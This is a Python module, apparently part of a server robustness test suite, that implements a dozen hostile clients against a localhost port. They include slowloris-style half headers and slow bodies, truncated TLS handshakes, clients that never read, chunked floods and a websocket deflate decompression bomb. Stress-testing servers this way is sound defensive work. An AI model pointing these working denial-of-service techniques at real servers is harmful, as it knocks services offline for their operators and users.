"""The hostile clients: `python -m attacks.attackers NAME PORT COUNT`. Prints "ready", and goes on until killed."""

from __future__ import annotations

import resource
import socket
import ssl
import sys
import zlib
from contextlib import suppress
from struct import pack
from threading import Thread
from time import sleep

PATIENCE = 5.0  # seconds; a server that lets a client wait for longer is not spared by it

HEAD = b"GET /%b HTTP/1.1\r\nHost: a\r\n"
OPENING = HEAD + (
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
COMPRESSED_OPENING = OPENING[:-2] + b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
INFLATED = 8 << 20  # bytes
_LITTLE = 4096  # bytes

Clients = list[socket.socket]


def connected(port: int, count: int, data: bytes, answered: bool = False, room: int | None = None) -> Clients:
    """So many clients that have sent `data`, and have read some of the answer. One that gets none is left as it is.

    Args:
        room: bytes that the kernel keeps for a client; None: megabytes, which a server is busy filling.
    """
    clients = []
    for _ in range(count):
        sock = socket.socket()
        sock.settimeout(PATIENCE)
        if room is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, room)
        sock.connect(("127.0.0.1", port))
        sock.sendall(data)
        clients.append(sock)
    for sock in clients if answered else ():
        with suppress(OSError):
            sock.recv(4096)
    return clients


def idle(port: int, count: int) -> Clients:
    return connected(port, count, HEAD % b"" + b"\r\n", answered=True)


def silent(port: int, count: int) -> Clients:
    return connected(port, count, b"")


def half_heads(port: int, count: int) -> Clients:
    return connected(port, count, b"GET / HTTP/1.1\r\nHo")


def slow_bodies(port: int, count: int) -> Clients:
    return connected(port, count, b"POST /read HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nabc")


def half_hello(port: int, count: int) -> Clients:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return connected(port, count, outgoing.read()[:100])


def idle_websockets(port: int, count: int) -> Clients:
    return connected(port, count, COMPRESSED_OPENING % b"echo", answered=True)


def non_readers(port: int, count: int) -> Clients:
    return connected(port, count, HEAD % b"big" + b"\r\n", room=_LITTLE)


def websocket_non_readers(port: int, count: int) -> Clients:
    return connected(port, count, OPENING % b"talk", room=_LITTLE)


def tiny_chunks(port: int, count: int) -> Clients:
    head = b"POST /read HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    return _flood(count, port, head, b"1;aaaaaaaaaaaaaa\r\nx\r\n" * 6000, False)


def inflating_messages(port: int, count: int) -> Clients:
    return _flood(count, port, COMPRESSED_OPENING % b"echo", _frame(0xC2, _deflated()[:-4]), True)


def unfinished_messages(port: int, count: int) -> Clients:
    clients = idle_websockets(port, count)
    for sock in clients:
        with suppress(OSError):
            sock.sendall(_frame(0x42, _deflated()))
    return clients


def _flood(count: int, *args: object) -> Clients:
    for _ in range(count):
        Thread(target=_send_for_ever, args=args, daemon=True).start()
    return []


def _send_for_ever(port: int, head: bytes, data: bytes, answered: bool) -> None:
    while True:
        try:
            (sock,) = connected(port, 1, head, answered)
            while True:
                sock.sendall(data)
        except OSError:  # the server has had enough; the next one
            sleep(0.05)


def _deflated() -> bytes:
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflater.compress(bytes(INFLATED)) + deflater.flush(zlib.Z_SYNC_FLUSH)


def _frame(first: int, payload: bytes) -> bytes:
    """A frame with a mask of zeros, of 126 to 65,535 bytes."""
    return pack("!BBH4x", first, 0xFE, len(payload)) + payload


BY_NAME = {
    "idle": idle,
    "silent": silent,
    "half heads": half_heads,
    "slow bodies": slow_bodies,
    "silent TLS": silent,
    "half hello": half_hello,
    "idle websockets": idle_websockets,
    "non readers": non_readers,
    "websocket non readers": websocket_non_readers,
    "tiny chunks": tiny_chunks,
    "inflating messages": inflating_messages,
    "unfinished messages": unfinished_messages,
}


def main() -> None:
    """Attack, and keep what was opened until standard input ends."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    clients = BY_NAME[name](port, count)
    print("ready", flush=True)
    sys.stdin.read()
    del clients


if __name__ == "__main__":
    main()
